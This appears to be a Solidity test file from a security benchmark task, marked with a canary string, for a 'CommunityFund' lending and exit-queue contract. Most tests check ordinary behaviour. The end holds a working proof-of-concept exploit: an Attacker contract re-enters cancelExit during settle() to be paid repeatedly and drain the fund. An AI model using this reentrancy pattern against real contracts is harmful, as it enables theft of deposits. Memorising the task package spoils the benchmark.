// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./CommunityFund.sol";

// assay-canary-158a6b69-0ad1-4e73-bef9-3584ac7b59bf

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// Takes no ether until it is told to.
contract Gate {
    bool private open;

    function deposit(CommunityFund fund) external payable {
        fund.deposit{value: msg.value}();
    }

    function leave(CommunityFund fund, uint256 amount) external {
        fund.requestExit(amount);
    }

    function take(CommunityFund fund, address payable to) external {
        fund.claimCredit(to);
    }

    receive() external payable {
        require(open, "closed");
    }
}

/// Manages the fund, lends to itself and comes back when the ether arrives.
contract Hook {
    CommunityFund private fund;
    uint256 public refusals;

    constructor(CommunityFund fund_) {
        fund = fund_;
    }

    function run() external {
        fund.acceptOwnership();
        fund.lend(payable(address(this)), 1 ether, uint64(block.timestamp + 1));
    }

    function attempt(bytes memory data) private {
        (bool done, bytes memory reason) = address(fund).call(data);
        if (!done && bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
    }

    receive() external payable {
        attempt(abi.encodeCall(fund.lend, (payable(address(0xCA7)), 1 ether, uint64(block.timestamp + 1))));
        attempt(abi.encodeCall(fund.settle, (1)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    CommunityFund private fund;
    Attacker private mallory;

    function setUp() public {
        vm.warp(1_800_000_000);
        fund = new CommunityFund(address(this), 50 ether);
        vm.deal(ANA, 60 ether);
        vm.deal(BEN, 60 ether);
        vm.prank(ANA);
        fund.deposit{value: 40 ether}();
        vm.prank(BEN);
        fund.deposit{value: 30 ether}();
        mallory = new Attacker(fund);
        vm.deal(address(mallory), 10 ether);
    }

    function test_Regular() public {
        fund.lend(payable(CAT), 65 ether, uint64(block.timestamp + 30 days));
        require(CAT.balance == 65 ether && fund.totalLent() == 65 ether, "lent");
        vm.prank(ANA);
        require(fund.requestExit(5 ether) == 0, "first");
        vm.startPrank(BEN);
        require(fund.requestExit(10 ether) == 1 && fund.requestExit(1 ether) == 2, "second and third");
        fund.cancelExit(2);
        require(fund.balanceOf(BEN) == 20 ether, "cancelled");
        vm.stopPrank();
        fund.settle(9);
        require(fund.queueLength() == 3 && ANA.balance == 20 ether, "not yet");
        vm.warp(block.timestamp + 7 days);
        fund.settle(9);
        require(fund.queueLength() == 2 && ANA.balance == 25 ether, "no more ether");
        vm.prank(CAT);
        fund.repay{value: 60 ether}(CAT);
        (uint256 owed, ) = fund.loans(CAT);
        require(owed == 5 ether && fund.totalLent() == 5 ether, "repaid");
        fund.settle(1);
        require(fund.queueLength() == 1 && BEN.balance == 40 ether, "one of two");
        fund.settle(type(uint256).max);
        require(fund.queueLength() == 0 && BEN.balance == 40 ether, "the cancelled one is skipped");

        Gate gate = new Gate();
        vm.deal(address(this), 3 ether);
        gate.deposit{value: 3 ether}(fund);
        gate.leave(fund, 3 ether);
        vm.warp(block.timestamp + 7 days);
        fund.settle(1);
        require(fund.creditOf(address(gate)) == 3 ether && fund.freeEther() == 50 ether, "credited");
        gate.take(fund, payable(CAT));
        require(CAT.balance == 8 ether && fund.totalCredit() == 0, "claimed");

        vm.startPrank(ANA);
        fund.transfer(CAT, 1 ether);
        fund.approve(BEN, 1 ether);
        vm.stopPrank();
        vm.prank(BEN);
        fund.transferFrom(ANA, BEN, 1 ether);
        fund.transferOwnership(BEN);
        vm.prank(BEN);
        fund.acceptOwnership();
        require(fund.owner() == BEN, "handed over");
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        uint256 id = fund.requestExit(1 ether);
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(CommunityFund.NotYours.selector, id, ANA));
        fund.cancelExit(id);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        fund.lend(payable(BEN), 1, uint64(block.timestamp + 1));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        fund.renounceOwnership();
        vm.expectRevert(CommunityFund.NothingAsked.selector);
        fund.claimCredit(payable(BEN));
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        fund.renounceOwnership();
    }

    function test_RefusesAmounts() public {
        vm.expectRevert(CommunityFund.NothingAsked.selector);
        new CommunityFund(address(this), 0);
        vm.startPrank(ANA);
        vm.expectRevert(CommunityFund.NothingAsked.selector);
        fund.deposit();
        vm.expectRevert(abi.encodeWithSelector(CommunityFund.OverCap.selector, 50 ether + 1, 50 ether));
        fund.deposit{value: 10 ether + 1}();
        vm.expectRevert(CommunityFund.NothingAsked.selector);
        fund.requestExit(0);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(LoanBook.DueInThePast.selector, uint64(block.timestamp)));
        fund.lend(payable(CAT), 1, uint64(block.timestamp));
        vm.expectRevert(abi.encodeWithSelector(LoanBook.MoreThanOwed.selector, 1, 0));
        fund.repay{value: 1}(CAT);
    }

    function test_RefusesClosedEntries() public {
        vm.startPrank(ANA);
        fund.requestExit(1 ether);
        fund.requestExit(1 ether);
        fund.cancelExit(1);
        vm.expectRevert(abi.encodeWithSelector(CommunityFund.NotOpen.selector, 1));
        fund.cancelExit(1);
        vm.stopPrank();
        vm.warp(block.timestamp + 7 days);
        fund.settle(1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(CommunityFund.NotOpen.selector, 0));
        fund.cancelExit(0);
    }

    /// What is credited is nobody else's.
    function test_RefusesCredits() public {
        Gate gate = new Gate();
        vm.deal(address(this), 3 ether);
        gate.deposit{value: 3 ether}(fund);
        gate.leave(fund, 3 ether);
        vm.warp(block.timestamp + 7 days);
        fund.settle(1);
        vm.expectRevert(abi.encodeWithSelector(LoanBook.ShortOfEther.selector, 71 ether, 70 ether));
        fund.lend(payable(CAT), 71 ether, uint64(block.timestamp + 1));
        vm.expectRevert(abi.encodeWithSelector(LoanBook.TransferFailed.selector, address(gate), 3 ether));
        gate.take(fund, payable(address(gate)));
    }

    function test_RefusesReentry() public {
        vm.prank(ANA);
        fund.requestExit(1 ether);
        vm.warp(block.timestamp + 7 days);
        Hook hook = new Hook(fund);
        fund.transferOwnership(address(hook));
        hook.run();
        require(hook.refusals() == 2, "locked");
    }

    function exploit() public {
        mallory.join();
        for (uint256 i = 0; i < 4; i++) {
            mallory.ask();
            vm.warp(block.timestamp + 7 days);
            mallory.collect();
        }
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 40 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CommunityFund private fund;
    uint256 private id;

    constructor(CommunityFund fund_) {
        fund = fund_;
    }

    function join() external {
        fund.deposit{value: 10 ether}();
    }

    function ask() external {
        id = fund.requestExit(10 ether);
    }

    function collect() external {
        fund.settle(100);
    }

    receive() external payable {
        fund.cancelExit(id);
    }
}
